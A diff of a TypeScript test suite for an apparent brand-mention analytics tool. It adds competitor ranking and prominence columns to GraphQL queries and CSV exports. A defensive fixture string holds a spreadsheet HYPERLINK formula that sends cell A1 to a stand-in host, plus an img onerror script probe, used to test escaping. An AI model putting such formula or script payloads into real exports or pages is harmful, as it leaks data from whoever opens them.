@@ -222,7 +222,7 @@ describe('the lists', () => {
     expect(rest.map((row) => row['total_mentions_count'])).toEqual(expect.arrayContaining([4, undefined]));
     const { project } = await ask<{ project: { brands: Standing[] } }>(
       `{ project(id: "${projectId}") { brands(tracked: true) { competitorId adjustedConfidence { low high }
-        againstBrand { verdict difference } previous { verdict } } } }`,
+        againstBrand { verdict difference } previous { verdict } ${PLACED} } } }`,
     );
     const standingOf = (id: unknown) => project.brands.find(({ competitorId }) => competitorId === id);
     expect(standingOf(known.id)?.adjustedConfidence).toEqual(expect.anything());
@@ -235,13 +235,58 @@ describe('the lists', () => {
         last_seen_at: '',
         ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
         ...standingCells(standingOf(row['id'])),
+        ...placeCells(standingOf(row['id'])),
       })),
     );
   });
+
+  test('competitors have where answers name them, as GraphQL has it', async () => {
+    const { id } = await createProject(holder.caller);
+    for (const name of ['Contoso', 'Fabrikam']) await createCompetitor(holder.caller, id, { name });
+    const answer = '1. **Contoso** – cheap\n2. **Northwind** – good\n3. **Fabrikam** – new';
+    const lines = Array.from({ length: 48 }, (_, at) => {
+      const day = at % 2 === 0 ? '2026-06-10' : '2026-05-10';
+      const place = { external_id: `${at}`, platform: 'claude', question: `Ask ${Math.floor(at / 2) % 6}?` };
+      return JSON.stringify({
+        ...place,
+        answer: at === 2 ? 'Fabrikam alone.' : answer,
+        answered_at: `${day}T09:00:00Z`,
+      });
+    });
+    await importAnswers(api.db, { projectId: id }, fileOf(lines));
+    const { project } = await ask<{ project: { brands: Standing[] } }>(
+      `{ project(id: "${id}") { brands(tracked: true) { ${PLACED} } } }`,
+    );
+    const found = await download('competitors', { project: id });
+    expect(found).toHaveLength(2);
+    for (const row of found) {
+      const standing = project.brands.find(({ competitorId }) => competitorId === row['id']);
+      expect(Object.values(placeCells(standing))).not.toContain('');
+      expect(row).toMatchObject(placeCells(standing));
+    }
+  });
 });
+
+const PLACED = `competitorId firstNamedCount firstNamedPercent firstNamedConfidence { low high } meanRank rankedCount
+  meanRankInterval { low high } prominence prominenceConfidence { low high }
+  previous { firstNamedVerdict meanRankVerdict prominenceVerdict }`;
+
+interface Interval {
+  low: number;
+  high: number;
+}
 
 interface Standing {
   competitorId: string | null;
+  firstNamedCount: number | null;
+  firstNamedPercent: number | null;
+  firstNamedConfidence: Interval | null;
+  meanRank: number | null;
+  rankedCount: number | null;
+  meanRankInterval: Interval | null;
+  prominence: number | null;
+  prominenceConfidence: Interval | null;
+  previous: { firstNamedVerdict: string; meanRankVerdict: string; prominenceVerdict: string } | null;
   adjustedConfidence: { low: number; high: number } | null;
   againstBrand: { verdict: string; difference: number } | null;
 }
@@ -257,6 +302,31 @@ function standingCells(standing: Standing | undefined) {
   };
 }
 
+/**
+ * What GraphQL says of where a competitor is named, as cells; empty where it was not looked for. There is a verdict
+ * also where the period before has no answers.
+ */
+function placeCells(standing: Standing | undefined) {
+  const isSought = typeof standing?.firstNamedCount === 'number';
+  const verdict = (told: string | undefined) => (isSought ? (told?.toLowerCase() ?? 'too_few_answers') : '');
+  return {
+    first_named_count: written(standing?.firstNamedCount ?? null),
+    first_named_percent: written(standing?.firstNamedPercent ?? null),
+    first_named_low: written(standing?.firstNamedConfidence?.low ?? null),
+    first_named_high: written(standing?.firstNamedConfidence?.high ?? null),
+    first_named_change: verdict(standing?.previous?.firstNamedVerdict),
+    mean_rank: written(standing?.meanRank ?? null),
+    ranked_count: written(standing?.rankedCount ?? null),
+    mean_rank_low: written(standing?.meanRankInterval?.low ?? null),
+    mean_rank_high: written(standing?.meanRankInterval?.high ?? null),
+    mean_rank_change: verdict(standing?.previous?.meanRankVerdict),
+    prominence: written(standing?.prominence ?? null),
+    prominence_low: written(standing?.prominenceConfidence?.low ?? null),
+    prominence_high: written(standing?.prominenceConfidence?.high ?? null),
+    prominence_change: verdict(standing?.previous?.prominenceVerdict),
+  };
+}
+
 describe('the answers', () => {
   const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Northwind")\r\n@SUM(1)\t,"",\'\u2028<img onerror=alert(1)> 🍵';
   const LONG = `Northwind is excellent. ${'"=1,\r\n'.repeat(150_000)}`;
@@ -269,7 +339,7 @@ describe('the answers', () => {
     const [days] = [['2026-06-13', '2026-06-01', '2026-05-01', '2026-03-20']];
     const usual = PLATFORMS.flatMap((platform) =>
       days.flatMap((day) =>
-        ['Northwind is excellent, and cheap.', 'Neither.'].map((answer, at) =>
+        ['- **Others**: dear\n- **Northwind**: excellent, and cheap.', 'Neither.'].map((answer, at) =>
           line(`${platform}${day}${at}`, { platform, answer, answered_at: `${day}T09:00:00.25Z` }),
         ),
       ),
@@ -300,6 +370,7 @@ describe('the answers', () => {
     platform: string;
     answeredAt: string;
     brandMentions: object[];
+    mentions: { isBrand: boolean; rank: number | null }[];
     citations: { domain: string }[];
     prompt: { id: string } | null;
   }
@@ -313,7 +384,7 @@ describe('the answers', () => {
     const { project } = await ask<{ project: { responses: { nodes: Answered[] } } }>(
       `{ project(id: "${projectId}") { responses(first: 100, window: D${window.slice(0, -1)}${narrowed}) { nodes {
         id platform model answeredAt prompt { id } brandMentions { start } citations { domain } sentiment
-        sentimentSource evidence
+        sentimentSource evidence mentions { isBrand rank }
       } } } }`,
     );
     const { nodes } = project.responses;
@@ -329,6 +400,7 @@ describe('the answers', () => {
         sentiment: written(node['sentiment']).toLowerCase(),
         sentiment_source: written(node['sentimentSource']).toLowerCase(),
         cited_domains: [...new Set(node.citations.map(({ domain }) => domain))].join('; '),
+        brand_rank: written(node.mentions.find(({ isBrand }) => isBrand)?.rank ?? null),
       })),
     );
     const inert = (value: unknown) => written(value).replace(/^(?=[=+\-@\t\r])/, "'");
